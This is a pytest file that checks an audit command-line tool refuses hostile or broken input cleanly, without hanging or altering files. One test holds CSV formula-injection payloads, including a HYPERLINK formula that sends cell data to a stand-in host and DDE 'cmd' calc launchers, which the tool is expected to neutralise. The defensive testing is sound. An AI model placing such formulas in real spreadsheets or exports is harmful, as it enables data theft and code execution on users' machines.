"""Hostile and broken input (issue 15): every case of the generated corpus (bad_inputs/hostile.py)
ends within seconds in its exit status with a clear message, changes nothing anywhere (not outside
--out, not the earlier revision already archived), and never hangs on a FIFO.

The cases run the CLI in-process and stop before any notebook starts (IdleKernel says so); two
tests at the end run a full audit.
"""

from __future__ import annotations

import errno
import hashlib
import importlib
import json
import os
import shutil
import signal
import stat
from contextlib import contextmanager
from pathlib import Path

import pytest
from bad_inputs.build import write_clean
from bad_inputs.hostile import CASES, ENGLISH, PERIOD, SECRET, VALIDATE, prepare
from test_bad_input import no_notebook  # noqa: F401 - the fixture: no notebook on bad input

from cchc_audit import archive, cli, rollup, trends
from cchc_audit.frontpage import build_index
from cchc_audit.periods import parse_period

SECONDS = 20  # a case still running after this hangs


@pytest.fixture(scope="module")
def clean(tmp_path_factory):
    return write_clean(tmp_path_factory.mktemp("clean") / "unit", "csv")


def snapshot(root: Path) -> dict[str, str]:
    """Every entry under `root` without following links or opening FIFOs: its kind and content."""
    found = {}
    for folder, dirs, files in os.walk(root):
        for name in dirs + files:
            path = Path(folder, name)
            info = path.lstat()
            rel = path.relative_to(root).as_posix()
            if stat.S_ISLNK(info.st_mode):
                found[rel] = "link:" + os.readlink(path)
            elif stat.S_ISDIR(info.st_mode):
                found[rel] = "dir"
            elif stat.S_ISREG(info.st_mode):
                found[rel] = hashlib.sha256(path.read_bytes()).hexdigest()
            else:
                found[rel] = f"special:{stat.S_IFMT(info.st_mode)}"
    return found


class Hang(Exception):
    pass


@contextmanager
def within(seconds: int, what):
    """Fail with Hang instead of waiting forever (on a FIFO, a bomb)."""
    def alarm(signum, frame):
        raise Hang(f"still running after {seconds} s: {what}")

    previous = signal.signal(signal.SIGALRM, alarm)
    signal.alarm(seconds)
    try:
        yield
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, previous)


def main_within(args, seconds=SECONDS) -> int:
    with within(seconds, args):
        return cli.main([str(a) for a in args])


def patch(monkeypatch, env: dict) -> None:
    for target, value in env.items():
        module, attr = target.split(":")
        monkeypatch.setattr(importlib.import_module(module), attr, value)


@pytest.mark.parametrize("case", CASES, ids=[c.name for c in CASES])
def test_hostile_input_is_refused_cleanly_and_changes_nothing(case, clean, tmp_path, capsys, no_notebook,
                                                              monkeypatch):
    ws = prepare(tmp_path / "ws", clean)
    args = case.make(ws)
    patch(monkeypatch, case.env)
    before = snapshot(ws.root)
    code = main_within([case.command, *args])
    out, err = capsys.readouterr()
    assert code == case.code, (out, err)
    message = err + out
    for text in case.says:
        assert text in message, message
    assert "Traceback" not in message and SECRET not in message
    assert snapshot(ws.root) == before  # nothing outside --out, nothing under it: rev-001 as it was
    assert not list(ws.out.glob(".tmp-*"))


@pytest.mark.parametrize("case", [c for c in CASES if c.name in ENGLISH], ids=lambda c: c.name)
def test_the_message_is_english_with_lang_en(case, clean, tmp_path, capsys, no_notebook, monkeypatch):
    ws = prepare(tmp_path / "ws", clean)
    args = case.make(ws)
    patch(monkeypatch, case.env)
    code = main_within([case.command, *args, "--lang", "en"])
    out, err = capsys.readouterr()
    assert code == case.code
    assert ENGLISH[case.name] in err + out, err + out


@pytest.mark.parametrize("case", [c for c in CASES if c.name in VALIDATE], ids=lambda c: c.name)
def test_validate_refuses_the_same_input(case, clean, tmp_path, capsys, monkeypatch):
    ws = prepare(tmp_path / "ws", clean)
    case.make(ws)
    before = snapshot(ws.root)
    code = main_within(["validate", "--data", ws.data])
    out, err = capsys.readouterr()
    assert code == 2, (out, err)
    assert case.says[0] in out + err
    assert snapshot(ws.root) == before


def test_a_csv_cell_longer_than_the_csv_module_default_is_valid(clean, tmp_path, capsys):
    ws = prepare(tmp_path / "ws", clean)
    long = "Ghi chú " + "x" * 200_000  # Python's csv refuses fields over 131 072 characters by default
    (ws.data / "can_bo.csv").write_text(f"Mã cán bộ;Họ tên;Chức vụ\nCB01;Lê Văn An;{long}\n", encoding="utf-8-sig")
    code = main_within(["validate", "--data", ws.data])
    out, err = capsys.readouterr()
    assert code == 0, out + err
    assert "can_bo.csv: 1" in out


def test_a_full_disk_leaves_no_partial_revision_and_says_so_in_one_sentence(clean, tmp_path, capsys,
                                                                             no_notebook, monkeypatch):
    from cchc_audit import params as params_mod

    ws = prepare(tmp_path / "ws", clean)
    before = snapshot(ws.root)

    def full(self, path):
        Path(path).write_bytes(b"tham so")  # a first part written, then the disk is full
        raise OSError(errno.ENOSPC, "No space left on device", str(path))

    monkeypatch.setattr(params_mod.Params, "write", full)
    code = main_within(["run", "--period", PERIOD, "--data", ws.data, "--out", ws.out])
    _, err = capsys.readouterr()
    assert code == 1
    assert err.count("\n") == 1 and "đĩa đã đầy" in err and "không lưu lần chạy nào" in err
    assert snapshot(ws.root) == before  # no rev-002, no .tmp-* left, rev-001 as it was


# --- old archive files, read defensively -------------------------------------------------------

BAD_RESULTS = {
    "rate_as_text": {"checks": [{"id": "II.1.1.a", "kind": "target", "status": "dat", "numerator": 1,
                                 "denominator": 2, "value": "50%"}]},
    "null_count": {"checks": [{"id": "II.1.1.a", "kind": "target", "status": "dat", "numerator": None,
                               "denominator": "2", "value": 0.5}]},
    "unknown_status": {"checks": [{"id": "II.1.1.a", "kind": "target", "status": "passed"}]},
    "tasks_as_text": {"tasks_summary": {"tasks": "52", "evidenced": 3}},
    "period_dates": {"period": {"id": "2023-Q4", "start": "31/12/2023", "end": "2023-12-31", "kind": "quarter"}},
}


def fake_run(out: Path, period: str, content: str) -> Path:
    with archive.new_run(out, "TMNMN", period) as run:
        (run.tmp / archive.RESULTS).write_text(content, encoding="utf-8")
    return run.path


def test_bad_old_results_are_skipped_with_a_warning_in_trends_front_page_and_roll_up(tmp_path):
    out = tmp_path / "out"
    base = {"unit": "Trường A", "unit_code": "TMNMN", "checks": []}
    periods = ["2023-Q1", "2023-Q2", "2023-Q3", "2023-Q4", "2022-Q4", "2022-Q3"]
    periods.append("2022-Q2")
    runs = []
    for period, (name, bad) in zip(periods, list(BAD_RESULTS.items()) + [("not_json", None), ("fifo", "")]):
        p = parse_period(period)
        record = {**base, "period": {"id": p.id, "start": p.start.isoformat(), "end": p.end.isoformat(),
                                     "kind": p.kind}, **(bad or {})}
        runs.append(fake_run(out, period, "{not json" if bad is None else json.dumps(record)))
        if bad == "":  # results.json replaced by a FIFO: read without waiting
            (runs[-1] / archive.RESULTS).unlink()
            os.mkfifo(runs[-1] / archive.RESULTS)
    before = snapshot(out)
    listed = archive.list_runs(out)
    assert all(r.results is None and r.problem for r in listed), [(r.name, r.problem) for r in listed]
    assert any("checks[0].value" in r.problem for r in listed)
    assert any("not JSON" in r.problem for r in listed)

    with pytest.warns(UserWarning, match="skipped"), within(SECONDS, "trends"):
        history = trends.load_history(out, "TMNMN", parse_period("2024-Q1"))
    assert not history.runs and len(history.skipped) == len(periods)

    with within(SECONDS, "front page"):
        page = build_index(out)
    assert page.count("unreadable, skipped") == len(periods) and "checks[0].status" in page

    outcomes = [type("O", (), {"unit": "TMNMN", "name": "A", "status": "skipped", "message": "",
                               "run": str(runs[0])})()]
    units = rollup.load_units(outcomes)
    assert units[0].outcome == "error" and "checks[0].value" in units[0].message
    built = rollup.build(units, parse_period("2024-Q1"), ("NB", "Nhà Bè"))  # no crash on the bad unit
    assert built["units"][0]["outcome"] == "error"
    assert snapshot(out) == before


# --- what the product writes -----------------------------------------------------------------

def test_roll_up_csv_guards_formulas_and_masks_personal_data_in_messages(tmp_path):
    from cchc_audit.batch import Outcome

    out = tmp_path / "out"
    hostile = ['=HYPERLINK("http://evil.example/"&A1,"Trường A")', "@SUM(1+1)*cmd|' /C calc'!A0",
               "+1", "-1", "\tx", "\rx"]
    outcomes = [Outcome(f"u{i}", name, f"/d/{i}", "bad_input",
                        "ho_so.csv, dòng 3, cột \"Số định danh\": giá trị \"079312345678\"; người nộp Nguyễn Văn An")
                for i, name in enumerate(hostile)]
    path = rollup.write_rollup(out, "NB", "=cmd|' /C calc'!A0", parse_period("2024-Q1"), outcomes)
    import csv as csv_module
    import io

    text = (path / rollup.CSV).read_bytes().decode("utf-8-sig")
    rows = list(csv_module.reader(io.StringIO(text, newline="")))
    names = [r[2] for r in rows[1:]]
    assert names == ["'" + n for n in hostile]
    for cell in (c for r in rows for c in r):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    for name in (rollup.JSON, rollup.HTML):
        text = (path / name).read_text(encoding="utf-8")
        assert "079312345678" not in text and "*********678" in text
        assert "Văn An" not in text


def test_pages_strip_bidi_and_zero_width_characters():
    from cchc_audit.report import render_template

    trojan = "Trường\u202e A\u2066\u200b\u200d\ufeff"
    html = render_template("frontpage.html.j2", "vi", units=[{"code": "A", "name": trojan, "rows": []}],
                           statuses=[], rollups=[], runs=0, built="")
    assert "Trường A" in html
    assert not any(ch in html for ch in "\u202e\u2066\u200b\u200d\ufeff")


# --- a full audit (the only ones here that run the notebook) -------------------------------------

def test_a_bad_earlier_revision_never_stops_the_next_run(clean, tmp_path, capsys):
    """A 2023-Q4 revision written by another version (a rate as text) stays as it was; the 2024-Q1
    run archives (exit 0), its trends say which run was skipped, the front page marks it; the
    archive holds only files from the data folder."""
    ws = prepare(tmp_path / "ws", clean)
    old = archive.latest_run(ws.out, ws.code, "2023-Q4")
    record = json.loads((old / archive.RESULTS).read_text(encoding="utf-8"))
    record["checks"] = BAD_RESULTS["rate_as_text"]["checks"]
    with archive.new_run(ws.out, ws.code, "2023-Q4") as run:  # rev-002, the latest of 2023-Q4
        (run.tmp / archive.RESULTS).write_text(json.dumps(record), encoding="utf-8")
    before = {k: v for k, v in snapshot(ws.root).items() if not k.startswith("out/")}
    earlier = snapshot(ws.out / ws.code / "2023-Q4")

    code = main_within(["run", "--period", PERIOD, "--data", ws.data, "--out", ws.out], seconds=300)
    out, err = capsys.readouterr()
    assert code == 0, err
    assert snapshot(ws.out / ws.code / "2023-Q4") == earlier
    assert {k: v for k, v in snapshot(ws.root).items() if not k.startswith("out/")} == before
    new = archive.latest_run(ws.out, ws.code, PERIOD)
    internal = (new / archive.INTERNAL_HTML).read_text(encoding="utf-8")
    assert f"{ws.code}/2023-Q4/rev-002" in internal and "checks[0].value" in internal
    index = (ws.out / "index.html").read_text(encoding="utf-8")
    assert "unreadable, skipped" in index
    data = ws.data.resolve()
    for rel in archive.read_manifest(new):  # inputs/<data folder>/... (the snapshot the notebook read)
        if rel.startswith(archive.INPUTS + "/"):
            _, folder, name = rel.split("/", 2)
            assert folder == data.name and (data / name).is_file(), rel
    assert SECRET not in "".join(p.read_text(encoding="utf-8", errors="replace")
                                 for p in new.rglob("*") if p.is_file())


def test_batch_discovery_never_waits_on_a_fifo(clean, tmp_path):
    """A round's unit whose don_vi.yaml is a FIFO, and a district don_vi.yaml that is one: found,
    named by their folders, never waited on (its run then reports the FIFO, exit 2)."""
    from cchc_audit.batch import discover_units, district_info

    root = tmp_path / "district"
    root.mkdir()
    for name in ("a", "b"):
        shutil.copytree(clean, root / name)
    (root / "a" / "don_vi.yaml").unlink()
    os.mkfifo(root / "a" / "don_vi.yaml")
    os.mkfifo(root / "don_vi.yaml")
    with within(SECONDS, "batch discovery"):
        units = discover_units(root)
        district = district_info(root)
    assert [u.folder.name for u in units] == ["a", "b"] and units[0].code == "a"
    assert district[0] == "district"


def test_a_results_json_nested_past_the_recursion_limit_is_skipped(tmp_path):
    path = tmp_path / "results.json"
    path.write_text("[" * 200_000, encoding="utf-8")
    results, problem = archive.load_results(path)
    assert results is None and "results.json" in problem
